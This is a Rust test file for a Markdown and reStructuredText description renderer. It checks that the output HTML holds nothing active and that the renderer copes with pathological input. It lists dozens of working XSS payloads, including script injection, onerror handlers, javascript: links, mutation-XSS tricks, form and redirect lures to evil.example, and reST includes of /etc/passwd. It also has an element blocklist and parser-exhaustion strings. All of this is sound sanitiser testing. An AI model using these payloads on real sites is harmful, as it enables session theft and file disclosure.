//! Nothing that an author writes may act, and nothing may bring the server down.

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

/// What must not stand in any output, whatever was written. Attributes are looked at inside tags alone: text may say
/// anything.
fn assert_inert(html: &str, source: &str) {
    const ELEMENTS: &[&str] = &[
        "script", "style", "iframe", "object", "embed", "form", "button", "base", "meta", "link", "svg", "math",
        "video", "audio", "template", "textarea", "select", "frame", "frameset", "applet", "html", "body", "head",
    ];
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let tag = &rest[..rest.find('>').unwrap_or(rest.len())];
        let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(!name.is_empty(), "a bare '<' in {html:?} of {source:?}");
        assert!(!ELEMENTS.contains(&name.as_str()), "<{name}> in {html:?} of {source:?}");
        for (n, part) in tag.split('"').enumerate() {
            if n % 2 == 0 {
                let key = part.trim().trim_end_matches('=').rsplit(' ').next().unwrap_or_default();
                assert!(!key.starts_with("on") && key != "style" && key != "srcset", "{key} in {html:?} of {source:?}");
            }
        }
        for address in ["href=\"", "src=\""] {
            if let Some((_, value)) = tag.split_once(address) {
                let good = ["http://", "https://", "HTTP", "mailto:", "#user-content-"];
                assert!(good.iter().any(|g| value.starts_with(g)), "{value} in {html:?} of {source:?}");
            }
        }
    }
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='https://a.example/\" onerror=\"alert(1)'>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"java&#x09;script:alert(1)\">a</a>",
    "<a href=\" &#14; javascript:alert(1)\">a</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">a</a>",
    "<a href=\"vbscript:x\">a</a><a href=\"data:text/html,<script>alert(1)</script>\">b</a>",
    "<a href=//evil.example>a</a><a href=/legacy/>b</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<style>@import 'https://evil.example'</style><p style=\"position:fixed\">a</p>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=q type=password><button formaction=x>a</button></form>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>a</summary></details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<p id=content><a name=x id=\"user-content-ok\">clobber</a><img name=cookie>",
    "<a href=x\u{0}y:javascript:alert(1)>a</a>",
    "<table><td><form><img src=x onerror=alert(1)></table>",
    "<b><p><b><p></b></b><img src=x onerror=alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4= srcset=\"https://a.example 2x\">",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<a href=\"https://a.example\" ping=\"https://b.example\" target=_top onmouseover=alert(1)>a</a>",
    "[a](javascript:alert(1)) ![a](javascript:alert(1)) [b](data:text/html,x) <javascript:alert(1)>",
    "[a]( javascript:alert(1)) [a](java\\\nscript:alert(1)) [a](javascript&#58;alert(1))",
    "[a]: javascript:alert(1)\n\n[a] ![a]",
    "![a](https://a.example/\"onerror=\"alert(1)) [a](https://a.example \"x\\\" onclick=alert(1)\")",
    "``` \"><script>alert(1)</script>\ncode\n```",
    "# <script>alert(1)</script>\n[^<script>]: <img src=x onerror=alert(1)>",
    ".. raw:: html\n\n   <script>alert(1)</script>",
    ".. RAW:: html\n   :file: /etc/passwd",
    ".. include:: /etc/passwd",
    ".. csv-table:: t\n   :file: /etc/passwd",
    ".. role:: x(raw)\n   :format: html\n\n:x:`<script>alert(1)</script>` :raw-html:`<script>` `<script>`:x:",
    "`a <javascript:alert(1)>`_ `b <data:text/html,x>`__ `c <\"onmouseover=\"alert(1)>`_",
    ".. _a: javascript:alert(1)\n\na_ `a`_",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n   :alt: \" onerror=\"alert(1)\n   :width: 1\" onload=\"a",
    ".. |x| image:: https://a.example/\" onerror=\"alert(1)\n\n|x|_ |x|\n\n.. _x: vbscript:x",
    ".. <script>:: a\n\n.. unknown:: <script>alert(1)</script>",
    ":<script>: <img src=x onerror=alert(1)>",
    "-<script>  <b>x</b>\n\n--o=<script>  y",
];

#[test]
fn attacks_leave_nothing_that_acts() {
    for attack in ATTACKS {
        for language in [Language::Markdown, Language::Rst, Language::Plain] {
            let rendered = render(language, attack);
            assert_inert(&rendered.html, attack);
            assert_inert(&rendered.html_with_images, attack);
            assert!(!rendered.html.contains("<img"), "a picture that nobody asked for: {attack:?}");
        }
        // Around and inside other things, too.
        for around in [
            "> {}",
            "- {}\n\n  {}",
            "| a |\n|---|\n| {} |",
            "text {} text",
            "<div>\n\n{}\n\n</div>",
            "<table><tr><td>{}",
        ] {
            let text = around.replace("{}", attack);
            assert_inert(&render(Language::Markdown, &text).html_with_images, &text);
        }
    }
}

#[test]
fn markdown_as_people_write_it() {
    let table = [
        ("# Title", "Title</h2>"),
        ("a **b** ~~c~~", "<del>c</del>"),
        ("| a |\n|---|\n| b |", "<td>b</td>"),
        ("- [x] done", "type=\"checkbox\""),
        ("- [x] done", "disabled=\"\""),
        ("https://example.org", "<a href=\"https://example.org\" rel=\"nofollow noopener ugc\">"),
        ("[a](#title)\n\n# Title", "href=\"#user-content-title\""),
        ("# Title", "id=\"user-content-title\""),
        ("a[^1]\n\n[^1]: note", "note"),
        ("<p align=\"center\"><b>x</b></p>", "<p align=\"center\"><b>x</b></p>"),
        ("<details><summary>More</summary>\n\ntext\n\n</details>", "<summary>More</summary>"),
        ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>"),
        ("[local](docs/a.md)", "local"),
    ];
    for (text, want) in table {
        let html = render(Language::Markdown, text).html;
        assert!(html.contains(want), "{text:?} gave {html}");
    }
    let rendered = render(Language::Markdown, "![a](https://x.example/a.png) ![b](http://x.example/b.png) ![c](c.png)");
    assert_eq!(rendered.images, 1);
    assert!(
        rendered.html(true).contains("src=\"https://x.example/a.png\"") && !rendered.html(false).contains("x.example")
    );
}

#[test]
fn restructuredtext_as_people_write_it() {
    let table = [
        ("Title\n=====\n\ntext", "<h2 id=\"user-content-title\">Title</h2>"),
        ("=====\nTitle\n=====\n\nSub\n---\n", "<h3 id=\"user-content-sub\">Sub</h3>"),
        ("*a* **b** ``c <d>``", "<em>a</em> <strong>b</strong> <code>c &lt;d&gt;</code>"),
        ("2 * 3 * 4 and *not closed", "2 * 3 * 4 and *not closed"),
        ("a\\*b\\* c\\ d", "a*b* cd"),
        ("- a\n- b\n\n  - c\n", "<li>b<ul>\n<li>c</li>"),
        ("1. a\n2. b", "<ol type=\"1\" start=\"1\">"),
        ("#. a\n#. b", "<li>b</li>"),
        ("a. x\nb. y", "<ol type=\"a\""),
        ("A. Einstein was here.\nNot a list.", "<p>A. Einstein"),
        ("term : kind\n  text\nother\n  more", "<dt>term : <em>kind</em></dt>"),
        (":Author: Jane\n:Version: 1", "<dt>Author</dt>\n<dd>Jane</dd>"),
        ("-v, --verbose  Say more\n--out=FILE  Where to", "<dt><code>-v, --verbose</code></dt>"),
        ("| a\n|   b", "<div class=\"line\">"),
        ("Code::\n\n  x = 1\n    y\n\nend", "<p>Code:</p>\n<pre><code>x = 1\n  y\n</code></pre>"),
        ("::\n\n  x", "<pre><code>x\n</code></pre>"),
        ("Quoted::\n\n> a\n> b\n", "&gt; a\n&gt; b"),
        ("text\n\n   quote\n\n   -- me", "<p class=\"attribution\">— me</p>"),
        (">>> 1 + 1\n2\n", "<pre><code>&gt;&gt;&gt; 1 + 1\n2\n</code></pre>"),
        ("`a <https://x.example>`_", "<a href=\"https://x.example\" rel=\"nofollow noopener ugc\">a</a>"),
        ("a_ and `b c`_\n\n.. _a: https://a.example\n.. _b c: https://b.example", "<a href=\"https://b.example\""),
        (
            "a__ b__\n\n__ https://a.example\n.. __: https://b.example",
            "<a href=\"https://b.example\" rel=\"nofollow noopener ugc\">b</a>",
        ),
        (
            "later_ `later <https://l.example>`_",
            "<a href=\"https://l.example\" rel=\"nofollow noopener ugc\">later</a> <a",
        ),
        ("See `Usage`_\n\nUsage\n=====\n", "href=\"#user-content-usage\""),
        ("snake_case and _x and trailing_ text", "snake_case and _x and trailing_ text"),
        ("https://x.example/a_b, me@example.org", "<a href=\"https://x.example/a_b\""),
        ("me@example.org", "<a href=\"mailto:me@example.org\""),
        ("a [1]_ b [#]_ c [CIT]_\n\n.. [1] one\n.. [#] two\n.. [CIT] three", "[2]</a>"),
        ("|v| text\n\n.. |v| replace:: *1.0*", "<em>1.0</em> text"),
        ("|c|\n\n.. |c| unicode:: 0xA9", "©"),
        (
            "|b|\n\n.. |b| image:: https://b.example/b.svg\n   :alt: build\n   :target: https://ci.example",
            "<a href=\"https://ci.example\" rel=\"nofollow noopener ugc\"><span class=\"picture\">build</span></a>",
        ),
        (".. image:: https://b.example/b.svg\n   :alt: build", ">build</span>"),
        (".. figure:: https://b.example/b.svg\n\n   The caption", "<figcaption>The caption</figcaption>"),
        (".. code-block:: python\n   :linenos:\n\n   x\n\n   y", "<pre><code>x\n\ny\n</code></pre>"),
        (".. code:: python\n\n   x", "<pre><code>x\n</code></pre>"),
        (".. note::\n   body", "<div class=\"admonition note\"><p class=\"admonition-title\">Note</p><p>body</p>"),
        (".. warning:: first\n   second", "<p>first\nsecond</p>"),
        (".. admonition:: Own *title*\n\n   body", "Own <em>title</em></p><p>body</p>"),
        (".. contents:: Table\n   :depth: 2\n\ntext", "<p>text</p>"),
        (".. a comment\n   goes on\n\ntext", "<p>text</p>"),
        (".. list-table:: T\n   :header-rows: 1\n\n   * - a\n     - b\n   * - c\n     - d", "<th>a</th><th>b</th>"),
        (".. csv-table::\n   :header: a, b\n\n   1, \"x, y\"", "<td>x, y</td>"),
        ("+---+---+\n| a | b |\n+===+===+\n| c | d |\n+---+---+", "<th>a</th><th>b</th>"),
        ("+---+---+\n| a     |\n+---+---+\n| c | d |\n+---+---+", "<td colspan=\"2\">a</td>"),
        ("+---+---+\n| a | b |\n|   +---+\n|   | d |\n+---+---+", "<td rowspan=\"2\">a</td>"),
        ("=====  ===\na      b\n=====  ===\n1      2\n=====  ===", "<th>a</th><th>b</th>"),
        ("=====  ===\n1      2\nx      y z\n=====  ===", "<td>x</td><td>y z</td>"),
        ("a\n\n----\n\nb", "<hr>"),
        (":pep:`8` :sub:`2` :py:class:`~a.B`", "<code>a.B</code>"),
        ("H\\ :sub:`2`\\ O", "H<sub>2</sub>O"),
        (".. mystery:: arg\n\n   content", "<pre><code>.. mystery:: arg"),
        ("`title`", "<cite>title</cite>"),
    ];
    for (text, want) in table {
        let html = render(Language::Rst, text).html;
        assert!(html.contains(want), "{text:?} wants {want:?}, gave {html}");
    }
}

#[test]
fn what_is_kept_out_leaves_no_trace() {
    for text in
        [".. raw:: html\n\n   secret", ".. include:: secret", ".. role:: r(raw)\n\n:r:`secret`", ".. contents:: secret"]
    {
        assert!(!render(Language::Rst, text).html.contains("secret"), "{text:?}");
    }
}

#[test]
fn content_types_choose_the_language() {
    for (kind, want) in [
        (None, Language::Rst),
        (Some("text/x-rst"), Language::Rst),
        (Some("text/markdown; charset=UTF-8; variant=GFM"), Language::Markdown),
        (Some("TEXT/Markdown"), Language::Markdown),
        (Some("text/plain"), Language::Plain),
        (Some("text/html"), Language::Plain),
    ] {
        assert_eq!(Language::of(kind), want, "{kind:?}");
    }
}

/// Texts that make renderers slow, deep or large. Unoptimised code gets a generous limit; what must not happen is
/// growth that is worse than about linear.
#[test]
fn hostile_sizes_end_soon_and_stay_small() {
    // Unoptimised code is some twenty times slower: an eighth of the limit shows growth as well.
    let n = if cfg!(debug_assertions) { RENDERED_BYTES_MAX / 8 } else { RENDERED_BYTES_MAX };
    let repeat = |unit: &str| unit.repeat(n / unit.len());
    let deep = |open: &str, close: &str| {
        let times = n / (open.len() + close.len()).max(1);
        open.repeat(times) + &close.repeat(times)
    };
    let texts = [
        repeat("- "),
        repeat("> "),
        repeat(">"),
        repeat("1. "),
        repeat("* "),
        repeat("*a "),
        repeat("**a "),
        repeat("`a "),
        repeat("["),
        repeat("[a]("),
        repeat("![["),
        repeat("<div>"),
        repeat("<b>"),
        repeat("<b><p>"),
        repeat("<"),
        repeat("<a href="),
        repeat("<!--"),
        repeat("</p>"),
        repeat("<table><tr><td>"),
        repeat("&"),
        repeat("|a"),
        repeat("_"),
        repeat("a_ "),
        repeat(":a:`b "),
        repeat("|a| "),
        repeat("``"),
        repeat("+-"),
        repeat("= "),
        repeat(".. "),
        repeat(".. |a| replace:: |a| |a|\n"),
        repeat("a\n b\n"),
        repeat("+\n"),
        repeat(" \n"),
        repeat("a::\n"),
        repeat("x@"),
        repeat("http://"),
        repeat("[^a]: x\n"),
        repeat("[a]: x\n"),
        repeat("\\"),
        repeat("é*"),
        repeat("\u{0}"),
        repeat("|\n|-\n"),
        deep("<div>", "</div>"),
        deep("<b>", "</b>"),
        deep("*a ", " b*"),
        deep("[", "](x)"),
        deep("<ul><li>", ""),
        (0..1000).map(|n| " ".repeat(n % 500) + "- a\n").collect::<String>(),
        (0..700).map(|n| " ".repeat(n) + "a\n").collect::<String>(),
        format!(
            "{}\n|a|",
            (0..40).map(|n| format!(".. |s{n}| replace:: |s{m}| |s{m}| |s{m}|\n", m = n + 1)).collect::<String>()
        ),
    ];
    for text in texts {
        for language in [Language::Markdown, Language::Rst] {
            let start = Instant::now();
            let one = text.clone();
            let work = move || render(language, &one);
            let thread = std::thread::Builder::new().stack_size(STACK_BYTES).spawn(work).expect("a thread");
            let rendered = thread.join().expect("no panic");
            let head: String = text.chars().take(24).collect();
            assert!(
                rendered.html.len() <= 24 * RENDERED_BYTES_MAX,
                "{head:?} {language:?}: {} bytes",
                rendered.html.len()
            );
            let took = start.elapsed();
            if took > Duration::from_secs(2) {
                eprintln!("slow: {head:?} {language:?} {took:?}");
            }
            assert!(took < Duration::from_secs(40), "{head:?} {language:?}: {took:?}");
        }
    }
}

#[tokio::test]
async fn too_large_is_plain_and_results_are_kept() {
    let descriptions = Descriptions::new();
    let at_limit = "a".repeat(RENDERED_BYTES_MAX);
    assert!(descriptions.render(&at_limit, Some("text/markdown")).await.html.starts_with("<p>"));
    let beyond = "a".repeat(RENDERED_BYTES_MAX + 1);
    assert!(descriptions.render(&beyond, Some("text/markdown")).await.html.starts_with("<pre class=\"plain\">"));
    let first = descriptions.render("*a*", Some("text/markdown")).await;
    let second = descriptions.render("*a*", Some("text/markdown")).await;
    assert!(Arc::ptr_eq(&first, &second));
    assert_ne!(first.html, descriptions.render("*a*", Some("text/plain")).await.html);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_text_is_rendered_inert(text in "\\PC{0,300}") {
        for language in [Language::Markdown, Language::Rst] {
            assert_inert(&render(language, &text).html_with_images, &text);
        }
    }

    #[test]
    fn any_markup_is_rendered_inert(parts in proptest::collection::vec(proptest::sample::select(PARTS.to_vec()), 0..40)) {
        let text = parts.concat();
        for language in [Language::Markdown, Language::Rst] {
            assert_inert(&render(language, &text).html_with_images, &text);
        }
    }
}

/// Pieces that mean something to one of the parsers.
const PARTS: &[&str] = &[
    "\n",
    "\n\n",
    " ",
    "   ",
    "a",
    "é",
    "*",
    "**",
    "`",
    "``",
    "_",
    "__",
    "|",
    ":",
    "::",
    "..",
    ".. ",
    ".. image:: ",
    ".. note::",
    "- ",
    "1. ",
    "> ",
    "# ",
    "===",
    "---",
    "+---+",
    "====  ====",
    "[",
    "]",
    "(",
    ")",
    "[1]_",
    "<",
    ">",
    "</",
    "<p>",
    "</p>",
    "<b",
    "<a href=\"",
    "\"",
    "'",
    "=",
    "<table>",
    "<td>",
    "<tr>",
    "</table>",
    "<li>",
    "<ul>",
    "<img src=",
    "https://a.example",
    "javascript:",
    "onerror=",
    "&",
    "&#x3c;",
    "<!--",
    "-->",
    "<script>",
    "</script>",
    "<svg>",
    "<style>",
    "\\",
    "\t",
    "\u{a0}",
    "\u{0}",
    "~~",
    "```",
    "    ",
    ">>> ",
    "-o ",
    "--long",
    ":f: ",
    "<summary>",
    "<details>",
];

/// Goal: no text makes the serialiser behind the sanitisers quadratic. Method: half a megabyte of each character at
/// which it stops, as text and in an attribute; without the limits this test runs for an hour.
#[test]
fn references_and_latin_signs_without_end_cost_no_more_than_their_length() {
    for text in ["&".repeat(500_000), "\u{a9}".repeat(250_000), format!("<a title=\"{}\">x</a>", "&".repeat(500_000))] {
        let rendered = super::render(super::Language::Markdown, &text);
        assert!(rendered.html(false).len() > 5);
    }
}

#[test]
fn a_run_is_ended_before_the_character_past_the_limit() {
    let at = super::balance::balance(&"&amp;".repeat(1000), false).0;
    assert!(!at.contains("<wbr>"));
    let past = super::balance::balance(&"&amp;".repeat(1001), false).0;
    assert_eq!(past, format!("{}<wbr>&amp;", "&amp;".repeat(1000)));
}
